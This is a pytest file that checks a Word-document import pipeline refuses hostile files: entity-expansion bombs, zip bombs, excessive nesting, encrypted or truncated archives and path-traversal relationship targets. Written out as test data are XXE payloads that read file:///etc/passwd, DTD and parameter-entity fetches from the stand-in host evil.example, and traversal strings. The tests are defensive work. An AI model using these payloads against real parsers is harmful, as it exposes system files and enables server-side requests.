"""Hostile files: each is refused by name, at once, and nothing of it is fetched, opened or written."""

from __future__ import annotations

import io
import zipfile

import pytest
from rawdocx import docx, p, part, row, table, zipped

from pipeline.errors import PipelineError
from pipeline.load import from_docx
from pipeline.load.flow import lines
from pipeline.load.word import package, xml

LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
DOCTYPES = {
    "laughs": f'<!DOCTYPE d [<!ENTITY a0 "ха">{LAUGHS}]><d>&a9;</d>',
    "file": '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>',
    "outside": '<!DOCTYPE d SYSTEM "http://evil.example/a.dtd"><d/>',
    "parameter": '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]><d/>',
    "empty": "<!DOCTYPE d><d/>",
}


def codes(data: bytes) -> list[tuple[str, str]]:
    with pytest.raises(PipelineError) as caught:
        from_docx.read(data, "a.docx")
    return [(found.code, found.place.where) for found in caught.value.problems]


def changed(data: bytes, **parts: bytes) -> bytes:
    """Return a Word file with some of its parts replaced; `__` in a name stands for its slash."""
    with zipfile.ZipFile(io.BytesIO(data)) as old:
        files = {name: old.read(name) for name in old.namelist()}
    return zipped(files | {name.replace("__", "/") + ".xml": content for name, content in parts.items()})


@pytest.mark.parametrize("text", DOCTYPES.values(), ids=DOCTYPES)
def test_a_doctype_is_refused_before_anything_in_it_is_read(text):
    assert codes(changed(docx(p("а")), word__document=text.encode())) == [("import-15", "word/document.xml")]


def test_a_doctype_is_seen_in_any_encoding_and_part():
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d><d/>'.encode("utf-16")
    assert codes(changed(docx(p("а")), word__document=text)) == [("import-15", "word/document.xml")]
    styled = docx(p("а"), styles="")
    assert codes(changed(styled, word__styles=DOCTYPES["empty"].encode())) == [
        ("import-15", "word/styles.xml")
    ]


def test_an_undefined_entity_is_a_broken_part():
    assert codes(changed(docx(p("а")), word__document=b"<d>&x;</d>")) == [("import-11", "word/document.xml")]


@pytest.mark.parametrize("depth", [xml.MAX_DEPTH + 1, 200_000])
def test_depth_is_refused(depth):
    text = part("document", "<w:body>" + "<w:sdt>" * depth + "</w:sdt>" * depth + "</w:body>")
    assert codes(changed(docx(p("а")), word__document=text)) == [("import-16", "word/document.xml")]


def test_depth_that_is_allowed_is_read():
    deep = "<w:sdt><w:sdtContent>" * 150 + p("түп") + "</w:sdtContent></w:sdt>" * 150
    assert [line.text for line in lines(from_docx.read(docx(deep), "a").blocks)] == ["түп"]
    runs = "<w:ins>" * 300 + "<w:r><w:t>түп</w:t></w:r>" + "</w:ins>" * 300
    assert [line.text for line in lines(from_docx.read(docx(p(runs)), "a").blocks)] == ["түп"]


def test_a_bomb_is_refused_by_what_it_claims():
    bomb = changed(docx(p("а")), word__styles=b" " * (package.RATIO_FROM + 1))
    assert codes(bomb) == [("import-12", "word/styles.xml")]


def test_a_part_may_not_be_longer_than_an_xml_may(monkeypatch):
    monkeypatch.setattr(package, "MAX_XML", 1000)
    assert codes(docx(p("сөз " * 1000))) == [("import-12", "word/document.xml")]


def test_all_parts_together_are_limited(monkeypatch):
    monkeypatch.setattr(package, "MAX_ALL", 1000)
    assert codes(docx(p("сөз " * 1000))) == [("import-12", "")]


def test_too_many_parts_are_refused(monkeypatch):
    monkeypatch.setattr(package, "MAX_ENTRIES", 2)
    assert codes(docx(p("а"))) == [("import-12", "")]


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_two_parts_of_one_name_are_refused():
    out = io.BytesIO(docx(p("а")))
    with zipfile.ZipFile(out, "a") as old:
        old.writestr("word/document.xml", part("document", f"<w:body>{p('басқа')}</w:body>"))
    assert codes(out.getvalue()) == [("import-13", "")]


def test_a_locked_part_is_told_from_a_broken_one():
    data = bytearray(docx(p("а")))
    # The flag of encryption in the directory at the end of the zip.
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    assert [code for code, _ in codes(bytes(data))] == ["import-14"]


@pytest.mark.parametrize("cut", [0, 4, 60, 300])
def test_a_file_that_is_cut_off_or_none_at_all_is_refused(cut):
    assert codes(docx(p("а"))[:cut]) == [("import-10", "")]


def test_damaged_bytes_are_named_by_their_part():
    data = bytearray(docx(p("сөз " * 50)))
    at = data.index(b"word/document.xml") + len("word/document.xml") + 10
    data[at : at + 8] = b"\xff" * 8
    assert codes(bytes(data)) == [("import-11", "word/document.xml")]


def test_a_zip_without_a_document_is_none():
    assert codes(zipped({"a.txt": b"x", "../../etc/passwd": b"x"})) == [("import-10", "")]


@pytest.mark.parametrize("target", ["../../../etc/passwd", "/etc/passwd", "..\\..\\x", "file:///etc/passwd"])
def test_relations_never_leave_the_file(target):
    body = p('<w:r><w:drawing><a:blip r:embed="x"/></w:drawing></w:r>')
    data = docx(body, media={"x": b"PNG"})
    with zipfile.ZipFile(io.BytesIO(data)) as old:
        files = {name: old.read(name) for name in old.namelist()}
    name = "word/_rels/document.xml.rels"
    files[name] = files[name].replace(b"media/x.png", target.encode())
    flow = from_docx.read(zipped(files), "a.docx")
    assert (flow.pictures, [image.name for line in lines(flow.blocks) for image in line.images]) == ({}, [""])


def test_styles_in_a_circle_and_wild_numbers_do_no_harm():
    based = '<w:style w:styleId="{}"><w:basedOn w:val="{}"/></w:style>'
    styles = based.format("A", "B") + based.format("B", "A")
    numbering = (
        '<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="999999"/><w:numFmt w:val="upperRoman"/>'
        '<w:lvlText w:val="%1%1%1%1%9."/></w:lvl></w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'
    )
    body = (
        p("а", style="A", numbered=("1", 0)) + p("б", numbered=("1", 99999999)) + p("в", numbered=("1", -1))
    )
    flow = from_docx.read(docx(body, styles=styles, numbering=numbering), "a.docx")
    assert [line.text for line in lines(flow.blocks)] == ["а", "б", "в"]


def test_a_span_of_a_million_columns_is_no_million_columns():
    wide = '<w:tc><w:tcPr><w:gridSpan w:val="999999"/></w:tcPr>' + p("а") + "</w:tc>"
    (block,) = from_docx.read(docx(table(row(wide, "б"))), "a.docx").blocks
    assert block.rows[0][1].column <= 200
